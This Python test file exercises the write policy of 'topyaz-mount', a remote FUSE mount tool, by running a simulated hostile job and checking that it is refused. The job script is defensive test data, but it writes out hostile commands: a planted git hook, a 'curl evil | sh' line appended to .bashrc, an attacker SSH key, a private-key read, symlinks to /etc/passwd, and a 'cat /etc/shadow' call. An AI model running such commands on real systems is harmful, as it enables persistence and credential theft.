"""End to end: the write policy against a job that tries to plant things in the root.

Real CLI, real sshd, real FUSE (tests/e2e_util.py). The remote job tries what a
compromised GPU host would (a git hook, a shell start-up file, an authorized key, a
setuid file, reading a private key) while also writing a legitimate output; the test
checks what it saw, the exit status, the refusal summary on stderr, every byte of the
output and that every protected file is byte-identical (or still absent).
"""

from __future__ import annotations

import os
import stat
import subprocess
from pathlib import Path

import pytest
from e2e_util import CLI, client_env, describe, run_exec
from test_exec_e2e import no_leftovers  # noqa: F401  (autouse: no mount, session dir or temp left)
from test_session_e2e import MountedSession

pytestmark = pytest.mark.e2e

LEGIT = bytes(range(256)) * 4096  # 1 MiB

# Each line reports what the job saw; `|| echo` keeps going after a refusal.
HOSTILE_SCRIPT = r"""
printf '#!/bin/sh\necho pwned\n' > .git/hooks/pre-commit && echo HOOK-WRITTEN || echo hook-refused
chmod 755 .git/hooks/pre-commit 2>/dev/null || echo hook-chmod-refused
echo 'curl evil | sh' >> .bashrc && echo BASHRC-WRITTEN || echo bashrc-refused
mkdir -p .ssh 2>/dev/null || echo ssh-mkdir-refused
echo 'ssh-ed25519 AAAA attacker' >> .ssh/authorized_keys 2>/dev/null \
  && echo KEY-WRITTEN || echo key-refused
cat .ssh/id_ed25519 2>/dev/null && echo KEY-READ || echo key-unreadable
ls -a | grep -qx .ssh && echo SSH-LISTED || echo ssh-not-listed
echo x > out/g/hooks/post-checkout && echo LINK-WRITTEN || echo link-refused
ln -s ../.git out/g2 && echo SYMLINK-MADE || echo symlink-refused
ln -s /etc/passwd out/p && echo SYMLINK-OUT-MADE || echo symlink-out-refused
mv .git out/stolen-git 2>/dev/null && echo GIT-MOVED || echo git-move-refused
printf '#!/bin/sh\n' > out/tool && chmod 6777 out/tool && echo tool-chmod-ok
mkdir out/d && chmod 7777 out/d && echo dir-chmod-ok
python3 -c "import sys; sys.stdout.buffer.write(bytes(range(256)) * 4096)" > out/result.bin
echo done
"""


@pytest.fixture
def planted(client_root: Path) -> dict[str, bytes | None]:
    """A root that holds a git project and dotfiles, as a home directory would."""
    (client_root / ".git" / "hooks").mkdir(parents=True)
    (client_root / ".ssh").mkdir()
    (client_root / "out").mkdir()
    files = {
        ".git/config": b"[core]\n\trepositoryformatversion = 0\n",
        ".git/HEAD": b"ref: refs/heads/main\n",
        ".git/hooks/pre-commit.sample": b"#!/bin/sh\nexit 0\n",
        ".bashrc": b"# my bashrc\n",
        ".ssh/id_ed25519": b"-----BEGIN OPENSSH PRIVATE KEY-----\nsecret\n",
    }
    for rel, data in files.items():
        (client_root / rel).write_bytes(data)
    os.symlink("../.git", client_root / "out" / "g")  # the user's own link
    # and what must stay absent
    return {
        **files,
        ".git/hooks/pre-commit": None,
        ".git/hooks/post-checkout": None,
        ".ssh/authorized_keys": None,
        "out/stolen-git": None,
        "out/g2": None,
        "out/p": None,
    }


def assert_untouched(root: Path, planted: dict[str, bytes | None]) -> None:
    for rel, data in planted.items():
        path = root / rel
        if data is None:
            assert not os.path.lexists(path), f"{rel} was created"
        else:
            assert path.read_bytes() == data, f"{rel} changed"
    assert sorted(os.listdir(root / ".git" / "hooks")) == ["pre-commit.sample"]


def assert_job_was_refused(r: subprocess.CompletedProcess) -> None:
    out = r.stdout.decode()
    for seen in (
        "hook-refused",
        "hook-chmod-refused",
        "bashrc-refused",
        "ssh-mkdir-refused",
        "key-refused",
        "key-unreadable",
        "ssh-not-listed",
        "link-refused",
        "symlink-refused",
        "symlink-out-refused",
        "git-move-refused",
        "tool-chmod-ok",
        "dir-chmod-ok",
        "done",
    ):
        assert seen in out.splitlines(), f"{seen} missing\n{describe(r)}"
    assert not any(word.isupper() for word in out.split()), describe(r)


def refusal_lines(r: subprocess.CompletedProcess) -> list[str]:
    return [
        line
        for line in r.stderr.decode(errors="replace").splitlines()
        if line.startswith("topyaz-mount: refused ")
    ]


def assert_summary(r: subprocess.CompletedProcess) -> None:
    lines = refusal_lines(r)
    paths = [line.split(" of ", 1)[1].rsplit(" (", 1)[0] for line in lines]
    assert len(paths) == len(set(paths)), lines  # one line per path
    for path, why in (
        (".git/hooks/pre-commit", "protected: .git"),
        (".bashrc", "protected: .bashrc"),
        (".ssh", "hidden: .ssh"),
        (".git/hooks/post-checkout", "protected: .git"),
        (".git", "protected: .git"),
        ("out/g2", "a link to .git, protected: .git"),
        ("out/p", "a link out of the root"),
    ):
        found = [line for p, line in zip(paths, lines, strict=True) if p == path]
        assert len(found) == 1 and found[0].endswith(f"({why})"), (path, lines)
    assert not any(p.startswith("out/") for p in paths if p not in ("out/g2", "out/p")), lines


def assert_outputs(root: Path) -> None:
    assert (root / "out" / "result.bin").read_bytes() == LEGIT
    assert (root / "out" / "tool").read_bytes() == b"#!/bin/sh\n"
    assert stat.S_IMODE(os.stat(root / "out" / "tool").st_mode) == 0o777
    assert stat.S_IMODE(os.stat(root / "out" / "d").st_mode) == 0o777
    assert os.readlink(root / "out" / "g") == "../.git"


def test_a_hostile_job_plants_nothing_and_its_legit_output_arrives(testhost, client_root, planted):
    r = run_exec(testhost, client_root, "sh", "-c", HOSTILE_SCRIPT, timeout=120)
    assert r.returncode == 0, describe(r)
    assert_job_was_refused(r)
    assert_summary(r)
    assert "Traceback" not in r.stderr.decode(errors="replace")
    assert_outputs(client_root)
    assert_untouched(client_root, planted)


def test_a_session_applies_its_policy_to_every_exec(testhost, client_root, planted, tmp_path):
    class PolicySession(MountedSession):
        def mount_argv(self, *extra: str) -> list[str]:
            return super().mount_argv(*extra, "--protect", "Makefile", "--hide", "notes")

    (client_root / "notes").write_bytes(b"private notes\n")
    (client_root / "Makefile").write_bytes(b"all:\n")
    s = PolicySession(testhost, client_root, tmp_path / "runtime", "guarded")
    try:
        s.start()
        r = s.exec("sh", "-c", HOSTILE_SCRIPT, timeout=120)
        assert r.returncode == 0, describe(r)
        assert_job_was_refused(r)
        assert_summary(r)
        assert_outputs(client_root)
        r = s.exec(
            "sh",
            "-c",
            "cat notes || echo notes-hidden; echo x >> Makefile || echo makefile-refused",
        )
        assert r.returncode == 0, describe(r)
        assert r.stdout.decode().split() == ["notes-hidden", "makefile-refused"], describe(r)
        assert refusal_lines(r) == [
            "topyaz-mount: refused write of Makefile (protected: Makefile)"
        ], describe(r)
        # the policy belongs to the session: exec --session does not take its options
        r = s.cli("exec", "--session", s.name, "--allow-write", ".bashrc", "--", "true")
        assert r.returncode == 2 and b"belong to `mount`" in r.stderr, describe(r)
        assert s.unmount().returncode == 0
    finally:
        s.close()
    assert_untouched(client_root, planted)
    assert (client_root / "notes").read_bytes() == b"private notes\n"
    assert (client_root / "Makefile").read_bytes() == b"all:\n"


def test_allow_write_lifts_one_rule(testhost, client_root, planted):
    r = run_exec(
        testhost,
        client_root,
        "sh",
        "-c",
        "echo 'export A=1' >> .bashrc && echo ok; echo x > .git/hooks/pre-commit || echo no",
        options=["--allow-write", ".bashrc"],
    )
    assert r.returncode == 0, describe(r)
    assert r.stdout.decode().split() == ["ok", "no"], describe(r)
    assert (client_root / ".bashrc").read_bytes() == b"# my bashrc\nexport A=1\n"
    assert not (client_root / ".git/hooks/pre-commit").exists()
    assert refusal_lines(r) == [
        "topyaz-mount: refused create of .git/hooks/pre-commit (protected: .git)"
    ], describe(r)


def test_read_only_root_takes_no_writes(testhost, client_root, planted):
    before = sorted(p.name for p in client_root.iterdir())
    script = (
        "cat .bashrc; echo x > out/a.txt || echo create-refused; "
        "mkdir out/d || echo mkdir-refused; rm .bashrc || echo rm-refused"
    )
    r = run_exec(testhost, client_root, "sh", "-c", script, options=["--read-only"])
    assert r.returncode == 0, describe(r)
    assert r.stdout.decode().split() == [
        "#",
        "my",
        "bashrc",
        "create-refused",
        "mkdir-refused",
        "rm-refused",
    ], describe(r)
    assert b"Read-only file system" in r.stderr, describe(r)
    assert [line.rsplit(" (", 1)[1] for line in refusal_lines(r)] == ["read-only root)"] * 3
    assert sorted(p.name for p in client_root.iterdir()) == before
    assert os.listdir(client_root / "out") == ["g"]  # the user's link only
    assert_untouched(client_root, planted)


# --- roots refused before connecting ----------------------------------------------------


def exec_cli(testhost, *args: str, env: dict[str, str] | None = None, cwd: Path | str = "/tmp"):
    argv = [
        *CLI,
        "exec",
        "--remote",
        testhost.remote,
        "-F",
        str(testhost.ssh_config),
        "--remote-python",
        testhost.remote_python,
        *args,
    ]
    return subprocess.run(
        argv,
        env=env or client_env(),
        cwd=str(cwd),
        capture_output=True,
        timeout=120,
        stdin=subprocess.DEVNULL,
    )


def one_line(r: subprocess.CompletedProcess, code: int, needle: str) -> None:
    lines = [x for x in r.stderr.decode(errors="replace").splitlines() if x.strip()]
    assert r.returncode == code, describe(r)
    assert len(lines) == 1 and lines[0].startswith("topyaz-mount: ") and needle in lines[0], lines


@pytest.mark.parametrize("root", ["/", "/etc", "/usr/share", "/var"])
def test_system_roots_are_refused_before_connecting(testhost, root):
    r = exec_cli(testhost, "--root", root, "--", "cat", "/etc/shadow", cwd=root)
    one_line(r, 2, "may not be")
    assert r.stdout == b""


def test_the_home_directory_needs_allow_home(testhost, tmp_path):
    home = tmp_path / "home"
    (home / "work").mkdir(parents=True)
    env = {**client_env(), "HOME": str(home)}
    for root in (home, tmp_path):
        r = exec_cli(testhost, "--root", str(root), "--", "true", env=env, cwd=home)
        one_line(r, 2, "--allow-home")
    r = exec_cli(testhost, "--root", str(home / "work"), "--", "true", env=env, cwd=home / "work")
    assert r.returncode == 0, describe(r)
    r = exec_cli(testhost, "--allow-home", "--root", str(home), "--", "ls", "-a", env=env, cwd=home)
    assert r.returncode == 0, describe(r)
    assert b"work" in r.stdout.split(), describe(r)


# --- the Python API -----------------------------------------------------------------------


def test_the_api_reports_refusals_and_takes_the_same_options(testhost, client_root, planted):
    from test_api_e2e import remote_host

    from topyaz_mount import PolicyOptions, RemoteMount
    from topyaz_mount.errors import UsageError

    with RemoteMount(remote_host(testhost), client_root) as remote:
        r = remote.run(["sh", "-c", HOSTILE_SCRIPT], timeout=120)
    assert r.returncode == 0, r
    assert "refused create of .git/hooks/pre-commit (protected: .git)" in r.refused, r.refused
    assert "refused write of .bashrc (protected: .bashrc)" in r.refused, r.refused
    assert_outputs(client_root)
    assert_untouched(client_root, planted)

    policy = PolicyOptions(protect=("out",), read_only=False)
    with RemoteMount(remote_host(testhost), client_root, policy=policy) as remote:
        r = remote.run(["sh", "-c", "echo x > out/new.txt || echo refused"])
    assert r.stdout == b"refused\n" and r.refused == [
        "refused create of out/new.txt (protected: out)"
    ], r
    assert not (client_root / "out" / "new.txt").exists()
    with pytest.raises(UsageError, match="may not be"):
        RemoteMount(remote_host(testhost), "/etc").open()
    with pytest.raises(UsageError, match="not a protection rule"):
        RemoteMount(remote_host(testhost), client_root, PolicyOptions(allow_write=("x",))).open()
